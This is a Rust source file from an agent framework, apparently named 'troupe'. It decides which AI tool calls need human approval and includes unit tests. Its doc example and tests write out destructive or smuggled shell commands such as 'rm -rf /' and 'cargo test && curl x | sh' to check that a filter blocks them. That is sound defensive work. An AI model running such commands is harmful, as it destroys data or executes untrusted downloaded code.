//! Approvals: which tool calls need a person, and what the person decided.
//!
//! The verdict for a call comes from, in order: the policy's [`ApprovalRule`]s (the first
//! that matches wins), the tools a person said to always allow during this run, and the
//! [`ApprovalMode`]. The default mode asks exactly when the tool's declaration says a call
//! needs approval ([`ToolDeclaration::requires_approval`]), which by default is any tool
//! that is not read-only: approval is derived from declared effects, never from names.

use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::BTreeSet;
use troupe_core::{PauseReason, ToolCallId};
use troupe_tools::ToolDeclaration;

/// When a person is asked, absent a matching rule.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ApprovalMode {
    /// Never ask: every call runs.
    Auto,
    /// Ask when the tool's declaration requires approval (side effects, by default).
    #[default]
    OnSideEffect,
    /// Ask before every call.
    Always,
}

/// What a matching rule does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleAction {
    /// Run the call without asking.
    Allow,
    /// Refuse the call; the model sees why.
    Deny,
    /// Ask a person.
    Ask,
}

/// A rule about calls of some tools, optionally with some arguments.
///
/// ```
/// use serde_json::json;
/// use troupe_run::{ApprovalPolicy, ApprovalRule, Verdict};
/// use troupe_tools::{Effect, ToolDeclaration};
///
/// let shell = ToolDeclaration::new("shell", "Runs a command.", json!({"type": "object"}), Effect::ExternalSideEffect);
/// let policy = ApprovalPolicy::default().rule(ApprovalRule::allow("shell").when("command", "cargo test"));
/// let none = Default::default();
/// assert_eq!(policy.decide(&shell, &json!({"command": "cargo test -p x"}), &none), Verdict::Allow);
/// // Anything else, including a chained command, is put to a person.
/// assert!(matches!(policy.decide(&shell, &json!({"command": "cargo test; rm -rf /"}), &none), Verdict::Ask { .. }));
/// assert!(matches!(policy.decide(&shell, &json!({"command": "rm -rf target"}), &none), Verdict::Ask { .. }));
/// ```
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ApprovalRule {
    /// The tool's catalog name, or a prefix ending in `*` (`fs.*`, `*`).
    pub tool: String,
    /// A top-level field of the arguments the rule looks at (`command`, `path`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub argument: Option<String>,
    /// The text that field (a string) must start with. Requires `argument`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub starts_with: Option<String>,
    /// What to do with a matching call.
    pub action: RuleAction,
}

/// Characters that chain or redirect shell commands: an `Allow` rule's prefix never
/// matches a value containing one, so `cargo test` cannot smuggle `; rm -rf ~` through.
const SHELL_CONTROL: &[&str] = &[";", "&", "|", "`", "$(", "\n", "\r", ">", "<"];

impl ApprovalRule {
    /// A rule doing `action` for `tool`.
    pub fn new(tool: impl Into<String>, action: RuleAction) -> Self {
        ApprovalRule { tool: tool.into(), argument: None, starts_with: None, action }
    }

    /// Allows calls of `tool`.
    pub fn allow(tool: impl Into<String>) -> Self {
        Self::new(tool, RuleAction::Allow)
    }

    /// Denies calls of `tool`.
    pub fn deny(tool: impl Into<String>) -> Self {
        Self::new(tool, RuleAction::Deny)
    }

    /// Asks about calls of `tool`.
    pub fn ask(tool: impl Into<String>) -> Self {
        Self::new(tool, RuleAction::Ask)
    }

    /// Restricts the rule to calls whose `argument` starts with `prefix`.
    pub fn when(mut self, argument: impl Into<String>, prefix: impl Into<String>) -> Self {
        self.argument = Some(argument.into());
        self.starts_with = Some(prefix.into());
        self
    }

    /// Whether the rule applies to a call of `tool` with `args`.
    ///
    /// With `argument` alone, the field must be present; with `starts_with` too, it must be
    /// a string starting with the prefix. An `Allow` rule with a prefix does not match a
    /// value containing shell control characters (`;`, `&`, `|`, `` ` ``, `$(`, newlines,
    /// redirections), since the prefix would then say nothing about what runs.
    pub fn matches(&self, tool: &str, args: &Value) -> bool {
        let tool_matches = match self.tool.strip_suffix('*') {
            Some(prefix) => tool.starts_with(prefix),
            None => tool == self.tool,
        };
        if !tool_matches {
            return false;
        }
        let Some(field) = &self.argument else {
            return self.starts_with.is_none();
        };
        let Some(value) = args.get(field) else {
            return false;
        };
        let Some(prefix) = &self.starts_with else {
            return true;
        };
        let Some(text) = value.as_str() else {
            return false;
        };
        if self.action == RuleAction::Allow && SHELL_CONTROL.iter().any(|c| text.contains(c)) {
            return false;
        }
        text.starts_with(prefix.as_str())
    }

    fn describe(&self) -> String {
        match (&self.argument, &self.starts_with) {
            (Some(field), Some(prefix)) => format!("rule `{}` ({field} starts with `{prefix}`)", self.tool),
            (Some(field), None) => format!("rule `{}` (with `{field}`)", self.tool),
            _ => format!("rule `{}`", self.tool),
        }
    }
}

/// What the policy says about one call.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "verdict", rename_all = "snake_case")]
pub enum Verdict {
    /// Run it.
    Allow,
    /// Ask a person first.
    Ask {
        /// Why, for the person.
        reason: String,
    },
    /// Refuse it.
    Deny {
        /// Why, for the model.
        reason: String,
    },
}

/// An agent's approval policy: a mode and rules that override it.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct ApprovalPolicy {
    /// When to ask absent a matching rule.
    pub mode: ApprovalMode,
    /// Rules, tried in order; the first that matches decides.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub rules: Vec<ApprovalRule>,
}

impl ApprovalPolicy {
    /// A policy of `mode` without rules.
    pub fn new(mode: ApprovalMode) -> Self {
        ApprovalPolicy { mode, rules: Vec::new() }
    }

    /// Never ask.
    pub fn auto() -> Self {
        Self::new(ApprovalMode::Auto)
    }

    /// Ask before every call.
    pub fn always() -> Self {
        Self::new(ApprovalMode::Always)
    }

    /// Adds a rule after the existing ones.
    pub fn rule(mut self, rule: ApprovalRule) -> Self {
        self.rules.push(rule);
        self
    }

    /// Checks that every rule can match: a `starts_with` needs an `argument`, and a tool
    /// pattern may not be empty.
    pub fn validate(&self) -> Result<(), String> {
        for (n, rule) in self.rules.iter().enumerate() {
            if rule.tool.is_empty() {
                return Err(format!("approval rule {n} names no tool (use `*` for every tool)"));
            }
            if rule.starts_with.is_some() && rule.argument.is_none() {
                return Err(format!("approval rule {n} (`{}`) has `starts_with` but no `argument`", rule.tool));
            }
        }
        Ok(())
    }

    /// The verdict for a call of the tool declared by `decl` with `args`, given the tools
    /// a person chose to always allow in this run.
    pub fn decide(&self, decl: &ToolDeclaration, args: &Value, always_allowed: &BTreeSet<String>) -> Verdict {
        if let Some(rule) = self.rules.iter().find(|rule| rule.matches(&decl.name, args)) {
            return match rule.action {
                RuleAction::Allow => Verdict::Allow,
                RuleAction::Deny => Verdict::Deny { reason: format!("{} denies it", rule.describe()) },
                RuleAction::Ask => Verdict::Ask { reason: format!("{} asks for approval", rule.describe()) },
            };
        }
        if always_allowed.contains(&decl.name) {
            return Verdict::Allow;
        }
        match self.mode {
            ApprovalMode::Auto => Verdict::Allow,
            ApprovalMode::OnSideEffect if !decl.requires_approval() => Verdict::Allow,
            ApprovalMode::OnSideEffect => {
                let effect = serde_json::to_value(decl.effect)
                    .ok()
                    .and_then(|v| v.as_str().map(|s| s.replace('_', " ")))
                    .unwrap_or_else(|| "a side effect".to_owned());
                Verdict::Ask { reason: format!("`{}` may have an effect ({effect})", decl.name) }
            }
            ApprovalMode::Always => Verdict::Ask { reason: "every tool call needs approval".to_owned() },
        }
    }
}

/// A person's answer to an [`ApprovalRequest`].
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum ApprovalDecision {
    /// Run the call as the model gave it.
    Approve,
    /// Do not run it; the model sees the reason as the call's error result.
    Reject {
        /// Why, for the model.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        reason: Option<String>,
    },
    /// Run it with these arguments instead of the model's.
    Modify {
        /// The replacement arguments object.
        arguments: Value,
    },
    /// Run it, and every later call of the same tool in this run, without asking.
    AlwaysAllow,
    /// Cancel the whole run.
    Cancel,
}

/// A call waiting for a person's decision.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct ApprovalRequest {
    /// The call.
    pub call_id: ToolCallId,
    /// The tool's catalog name.
    pub tool: String,
    /// The arguments the model gave.
    pub arguments: Value,
    /// Why approval is needed.
    pub reason: String,
}

impl ApprovalRequest {
    /// How the run announces this wait: an approval, or — for a call its process died
    /// during (`uncertain`) — an action that may or may not have happened, so a handler can
    /// tell "may run" from "may have run already".
    pub fn into_pause_reason(self, uncertain: bool) -> PauseReason {
        let ApprovalRequest { call_id, tool, arguments, reason } = self;
        if uncertain {
            PauseReason::UncertainAction { call_id, tool, arguments }
        } else {
            PauseReason::Approval { call_id, tool, arguments, reason }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use troupe_tools::{ApprovalRequirement, Effect};

    fn decl(name: &str, effect: Effect) -> ToolDeclaration {
        ToolDeclaration::new(name, "", json!({"type": "object"}), effect)
    }

    fn none() -> BTreeSet<String> {
        BTreeSet::new()
    }

    #[test]
    fn default_mode_asks_for_side_effects_only() {
        let policy = ApprovalPolicy::default();
        assert_eq!(policy.decide(&decl("fs.read", Effect::ReadOnly), &json!({}), &none()), Verdict::Allow);
        let Verdict::Ask { reason } = policy.decide(&decl("fs.write", Effect::WriteState), &json!({}), &none()) else {
            panic!("writes are asked about")
        };
        assert!(reason.contains("write state"), "{reason}");
        let mut waived = decl("notify", Effect::ExternalSideEffect);
        waived.approval = ApprovalRequirement::NotRequired;
        assert_eq!(policy.decide(&waived, &json!({}), &none()), Verdict::Allow);
    }

    #[test]
    fn modes_auto_and_always() {
        let write = decl("fs.write", Effect::WriteState);
        let read = decl("fs.read", Effect::ReadOnly);
        assert_eq!(ApprovalPolicy::auto().decide(&write, &json!({}), &none()), Verdict::Allow);
        assert!(matches!(ApprovalPolicy::always().decide(&read, &json!({}), &none()), Verdict::Ask { .. }));
    }

    #[test]
    fn first_matching_rule_wins_over_always_allowed_and_mode() {
        let shell = decl("shell", Effect::ExternalSideEffect);
        let policy = ApprovalPolicy::auto()
            .rule(ApprovalRule::deny("shell").when("command", "rm"))
            .rule(ApprovalRule::ask("sh*"));
        let allowed: BTreeSet<String> = ["shell".to_owned()].into();
        assert!(matches!(policy.decide(&shell, &json!({"command": "rm -rf /"}), &allowed), Verdict::Deny { .. }));
        assert!(matches!(policy.decide(&shell, &json!({"command": "ls"}), &allowed), Verdict::Ask { .. }));
        let plain = ApprovalPolicy::default();
        assert_eq!(plain.decide(&shell, &json!({"command": "ls"}), &allowed), Verdict::Allow, "always allowed");
    }

    #[test]
    fn argument_conditions() {
        let rule = ApprovalRule::allow("shell").when("command", "cargo test");
        assert!(rule.matches("shell", &json!({"command": "cargo test --all"})));
        assert!(!rule.matches("shell", &json!({"command": "cargo build"})));
        assert!(!rule.matches("shell", &json!({"cmd": "cargo test"})), "field missing");
        assert!(!rule.matches("shell", &json!({"command": 7})), "not a string");
        assert!(!rule.matches("shell", &json!({"command": "cargo test && curl x | sh"})), "chained");
        assert!(!rule.matches("shellx", &json!({"command": "cargo test"})), "exact name");
        let deny = ApprovalRule::deny("shell").when("command", "cargo test");
        assert!(deny.matches("shell", &json!({"command": "cargo test; echo"})), "deny rules still match");
        let present = ApprovalRule { argument: Some("path".into()), ..ApprovalRule::ask("fs.*") };
        assert!(present.matches("fs.write", &json!({"path": "a"})));
        assert!(!present.matches("fs.write", &json!({})));
        assert!(ApprovalRule::deny("*").matches("anything", &json!(null)));
    }

    #[test]
    fn validation_rejects_rules_that_cannot_match() {
        let bad = ApprovalPolicy::default()
            .rule(ApprovalRule { starts_with: Some("x".into()), ..ApprovalRule::allow("shell") });
        assert!(bad.validate().is_err());
        assert!(ApprovalPolicy::default().rule(ApprovalRule::allow("")).validate().is_err());
        assert!(ApprovalPolicy::default().rule(ApprovalRule::allow("shell").when("command", "ls")).validate().is_ok());
    }

    #[test]
    fn decisions_and_policies_serialize_tagged_in_snake_case() {
        let value = serde_json::to_value(ApprovalDecision::Reject { reason: Some("no".into()) }).expect("serializes");
        assert_eq!(value, json!({"type": "reject", "reason": "no"}));
        let back: ApprovalDecision = serde_json::from_value(json!({"type": "always_allow"})).expect("parses");
        assert_eq!(back, ApprovalDecision::AlwaysAllow);
        let policy: ApprovalPolicy = serde_json::from_value(json!({
            "mode": "on_side_effect",
            "rules": [{"tool": "shell", "argument": "command", "starts_with": "cargo test", "action": "allow"}]
        }))
        .expect("parses");
        assert_eq!(policy, ApprovalPolicy::default().rule(ApprovalRule::allow("shell").when("command", "cargo test")));
    }
}
